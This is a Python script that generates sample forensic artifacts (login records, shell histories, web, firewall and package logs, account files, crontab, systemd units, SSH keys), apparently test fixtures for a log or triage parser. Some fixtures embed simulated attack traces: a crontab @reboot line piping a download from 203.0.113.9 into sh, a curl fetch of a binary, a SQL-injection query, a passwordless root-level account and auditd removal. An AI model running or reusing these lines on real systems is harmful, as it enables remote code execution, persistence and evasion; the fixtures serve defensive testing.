#!/usr/bin/env python3
"""Make the files of Linux in testdata/artifact.

usage: linux.py OUT_FOLDER

Times are fixed; keys are ssh-keygen's, new on each run.
"""
import base64
import os
import socket
import struct
import subprocess
import sys
import tempfile

out = sys.argv[1]


def put(name, content):
    with open(os.path.join(out, name), "wb") as f:
        f.write(content if isinstance(content, bytes) else content.encode())


# struct utmp of glibc on x86-64: short, pad, int, char[32], char[4], char[32], char[256], 2 short, int, 2 int, 4 int, 20 bytes.
def utmp(kind, pid, line, ident, user, host, sec, usec, address=""):
    a = socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address) if address else b""
    return struct.pack("<hxxi32s4s32s256shhiii16s20x", kind, pid, line.encode(), ident.encode(), user.encode(), host.encode(), 0, 0, 0, sec, usec, a)


T = 1795854000
put("sample.wtmp", b"".join([
    utmp(2, 0, "~", "~~", "reboot", "6.1.0-26-amd64", T, 0),
    utmp(1, 53, "~", "~~", "runlevel", "6.1.0-26-amd64", T + 9, 500),
    utmp(6, 700, "tty1", "tty1", "LOGIN", "", T + 10, 0),
    utmp(7, 1203, "pts/0", "ts/0", "nurul", "198.51.100.66", T + 60, 123456, "198.51.100.66"),
    utmp(7, 1300, "pts/1", "ts/1", "aminah", "2001:db8::7", T + 90, 0, "2001:db8::7"),
    utmp(8, 1203, "pts/0", "", "", "", T + 900, 0),
    utmp(1, 0, "~", "~~", "shutdown", "6.1.0-26-amd64", T + 1000, 0),
]))
last = bytearray(292 * 1001)
struct.pack_into("<i32s256s", last, 0, T + 30, b"tty1", b"")
struct.pack_into("<i32s256s", last, 292 * 1000, T + 60, b"pts/0", b"198.51.100.66")
put("sample.lastlog", bytes(last[: 292 * 3]) + b"")
put("sample.bash_history", "#1795854061\nwhoami\n#1795854070\ncurl -u nurul:RAHSIA1234 http://203.0.113.9/muat.bin -o /tmp/m\nls -la\n#1795854080\nexport DB_PASSWORD=RAHSIA1234 && mysql -uroot -pRAHSIA1234 kes\n")
put("sample.zsh_history", b": 1795854100:0;cd /srv\n: 1795854110:3;for i in 1 2\\\ndo echo $i; done\n: 1795854120:0;echo \xe6\x83\xbb\n")
put("sample.access.log", 'portal.contoh.test:443 198.51.100.23 - nurul [28/Nov/2026:08:46:29 +0800] "GET /cari?q=%27%20OR%201=1 HTTP/1.1" 500 227 "https://contoh.test/" "Mozilla/5.0 \\"x\\""\n2001:db8::9 - - [28/Nov/2026:08:46:30 +0800] "-" 408 0 "-" "-"\n')
put("sample.pfirewall.log", "#Version: 1.5\r\n#Software: Microsoft Windows Firewall\r\n#Time Format: Local\r\n#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path\r\n\r\n2026-11-28 08:35:56 DROP TCP 198.51.100.23 192.0.2.17 50123 445 52 S 123 0 8192 - - - RECEIVE\r\n2026-11-28 08:35:57 ALLOW UDP 192.0.2.17 203.0.113.9 50200 53 0 - - - - - - - SEND\r\n")
put("sample.w3c.log", "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2026-11-28 08:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) cs(Cookie) sc-status sc-substatus sc-win32-status time-taken\r\n2026-11-28 08:00:01 192.0.2.10 POST /owa/auth.aspx id=1 443 CONTOH\\nurul 198.51.100.23 Mozilla/5.0+(Windows+NT+10.0) - sesi=RAHSIA1234 200 0 0 15\r\n2026-11-28 08:00:02 192.0.2.10 GET /aspnet_client/x.aspx - 443 - 198.51.100.23 curl/8 - - 404 0 2 1\r\n")
put("sample.dpkg.log", "2026-11-28 08:10:01 startup archives unpack\n2026-11-28 08:10:01 install netcat-openbsd:amd64 <none> 1.219-1\n2026-11-28 08:10:02 status half-installed netcat-openbsd:amd64 1.219-1\n2026-11-28 08:10:03 upgrade openssl:amd64 3.0.15-1 3.0.17-1\n2026-11-28 08:10:04 remove auditd:amd64 1:3.0.9-1 <none>\n")
put("sample.apt-history.log", "\nStart-Date: 2026-11-28  08:10:00\nCommandline: apt-get install -y netcat-openbsd\nRequested-By: nurul (1000)\nInstall: netcat-openbsd:amd64 (1.219-1), libbsd0:amd64 (0.11.7-2, automatic)\nUpgrade: openssl:amd64 (3.0.15-1, 3.0.17-1)\nEnd-Date: 2026-11-28  08:10:05\n\nStart-Date: 2026-11-28  08:20:00\nCommandline: apt-get purge auditd\nPurge: auditd:amd64 (1:3.0.9-1)\nError: Sub-process /usr/bin/dpkg returned an error code (1)\nEnd-Date: 2026-11-28  08:20:01\n")
put("sample.dnf.rpm.log", "2026-11-28T08:10:00+0800 INFO --- logging initialized ---\n2026-11-28T08:10:05+0800 SUBDEBUG Installed: nmap-ncat-3:7.92-3.el9.x86_64\n2026-11-28T08:11:05+0800 SUBDEBUG Erase: audit-3.0.7-104.el9.x86_64\n")
put("sample.pacman.log", "[2026-11-28T08:10:00+0800] [PACMAN] Running 'pacman -S gnu-netcat'\n[2026-11-28T08:10:02+0800] [ALPM] installed gnu-netcat (0.7.1-10)\n[2026-11-28T08:10:03+0800] [ALPM] upgraded openssl (3.4.0-1 -> 3.4.1-1)\n")
put("sample.passwd", "root:x:0:0:root:/root:/bin/bash\nnurul:x:1000:1000:Nurul,,,:/home/nurul:/bin/bash\ntoor::0:0::/root:/bin/sh\n")
put("sample.shadow", "root:!*:20000:0:99999:7:::\nnurul:$y$j9T$RAHSIA1234$RAHSIA1234digest:20400:0:90:7:::\nlama:RAHSIA1234xyz:19000::::::\n")
put("sample.group", "root:x:0:\nsudo:x:27:nurul,aminah\n")
put("sample.sudoers", "# contoh\nDefaults\tenv_reset\nUser_Alias PENTADBIR = nurul, \\\n    aminah\nroot ALL=(ALL:ALL) ALL\nnurul ALL=(ALL) NOPASSWD: /usr/bin/systemctl\n@includedir /etc/sudoers.d\n")
put("sample.crontab", "# /etc/crontab\nSHELL=/bin/sh\nMAILTO=\"\"\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n@reboot nurul curl --user nurul:RAHSIA1234 http://203.0.113.9/m | sh\n*/5 1-6 * * mon-fri www-data /srv/kemas\n")
put("sample.service", "[Unit]\nDescription=Kemas\nAfter=network.target\n\n[Service]\nType=simple\nUser=nurul\nEnvironment=API_TOKEN=RAHSIA1234\nExecStart=/usr/local/bin/kemas --daemon \\\n  --port 4444\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n")
put("sample.timer", "[Timer]\nOnCalendar=*-*-* 03:00:00\nPersistent=true\nUnit=kemas.service\n\n[Install]\nWantedBy=timers.target\n")
with tempfile.TemporaryDirectory() as d:
    keys = []
    for kind in ("ed25519", "rsa"):
        path = os.path.join(d, kind)
        subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", "", "-C", "nurul@contoh.test", "-f", path], check=True)
        keys.append(open(path + ".pub").read())
put("sample.authorized_keys", "# contoh\n" + keys[0] + 'from="198.51.100.0/24",command="/bin/sh -c \\"id\\"" ' + keys[1])
put("sample.known_hosts", "portal.contoh.test,192.0.2.10 " + " ".join(keys[0].split()[:2]) + "\n|1|F1E1KeoE/eEWhi10WpGv4OdiO6Y=|3988QV0VE8wmZL7suNrYQLITLCg= " + " ".join(keys[0].split()[:2]) + "\n")
put("sample.private_key", "-----BEGIN OPENSSH PRIVATE KEY-----\n" + base64.b64encode(b"RAHSIA1234 no key at all").decode() + "\n-----END OPENSSH PRIVATE KEY-----\n")
put("sample.docker-json.log", '{"log":"mula\\n","stream":"stdout","time":"2026-11-28T08:00:00.123456789Z"}\n{"log":"gagal: kata laluan\\n","stream":"stderr","attrs":{"tag":"portal"},"time":"2026-11-28T08:00:01Z"}\n')
